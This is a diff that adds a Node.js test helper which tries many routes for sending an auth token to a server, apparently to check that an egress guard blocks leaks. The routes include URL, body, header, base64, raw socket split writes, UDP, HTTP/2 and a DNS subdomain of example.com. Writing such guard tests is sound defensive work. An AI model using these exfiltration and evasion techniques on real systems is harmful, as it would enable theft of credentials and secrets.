@@ -1,0 +1,83 @@
+import { createSocket } from 'node:dgram'
+import { request } from 'node:http'
+import { connect as connectHttp2 } from 'node:http2'
+import { connect } from 'node:net'
+import { Agent, Pool, request as undiciRequest } from 'undici'
+
+/*
+ * Run by the tests in a process of its own, with the tap: `node --import …/egress-tap.ts clients.ts WAY`. Tries one way out
+ * to the server at TARGET and says how that ended.
+ */
+const { TARGET = '', VALUE: secret = '' } = process.env
+const { hostname, port } = new URL(TARGET)
+const header = { 'x-velt-auth-token': secret }
+
+const ways: Readonly<Record<string, () => Promise<unknown>>> = {
+  'fetch, in the address': () => fetch(`${TARGET}/?token=${secret}`),
+  'fetch, in a body': () => fetch(TARGET, { method: 'POST', body: `{"token":"${secret}"}` }),
+  'fetch, in another header': () => fetch(TARGET, { headers: { authorization: `Bearer ${secret}` } }),
+  'fetch, in base64': () =>
+    fetch(TARGET, { headers: { authorization: Buffer.from(`a:${secret}`).toString('base64') } }),
+  'fetch, lawful': () => fetch(TARGET, { headers: header }),
+  'fetch, lawful and in the address': () => fetch(`${TARGET}/${secret}`, { headers: header }),
+  'fetch, redirected': () => fetch(`${TARGET}/redirect`, { headers: header }),
+  'undici with a dispatcher of its own': () =>
+    undiciRequest(`${TARGET}/?t=${secret}`, { dispatcher: new Agent() }),
+  'a pool, lawful': () =>
+    new Pool(TARGET).request({ path: '/', method: 'POST', headers: header, body: '{}' }),
+  'a pool, in the body': () =>
+    new Pool(TARGET).request({ path: '/', method: 'POST', headers: header, body: secret }),
+  'node:http, in the address': () => viaHttp(`/${secret}`, {}, ''),
+  'node:http, lawful': () => viaHttp('/', header, 'plain'),
+  'node:http, in the body': () => viaHttp('/', header, secret),
+  'a socket': () => viaSocket([secret]),
+  'a socket, in two writes': () => viaSocket([secret.slice(0, 9), secret.slice(9)]),
+  'a socket, a header with no request': () => viaSocket([`x-velt-auth-token: ${secret}\r\n\r\n`]),
+  'HTTP/2': () => viaHttp2(),
+  'a datagram': async () => createSocket('udp4').send(secret, Number(port), hostname),
+  'the name of a host': () => fetch(`http://${secret}.example.com/`),
+}
+
+function viaHttp(path: string, headers: Record<string, string>, body: string): Promise<void> {
+  return new Promise((resolve, reject) => {
+    request({ host: hostname, port, path, method: 'POST', headers }, (response) => {
+      response.resume().on('end', resolve)
+    })
+      .on('error', reject)
+      .end(body)
+  })
+}
+
+function viaSocket(writes: readonly string[]): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(Number(port), hostname)
+    socket.on('error', reject).on('close', () => resolve())
+    for (const text of writes) socket.write(text)
+    socket.end()
+  })
+}
+
+function viaHttp2(): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const session = connectHttp2(TARGET)
+    session.on('error', () => {})
+    try {
+      session
+        .request({ ':path': `/${secret}` })
+        .on('error', reject)
+        .on('close', resolve)
+    } catch (error) {
+      session.destroy()
+      reject(error)
+    }
+  })
+}
+
+try {
+  await ways[process.argv[2] ?? '']?.()
+  process.stdout.write('sent\n')
+} catch (error) {
+  const { cause } = error as Error
+  process.stdout.write(`${cause instanceof Error ? cause.message : error}\n`)
+}
+process.exit()
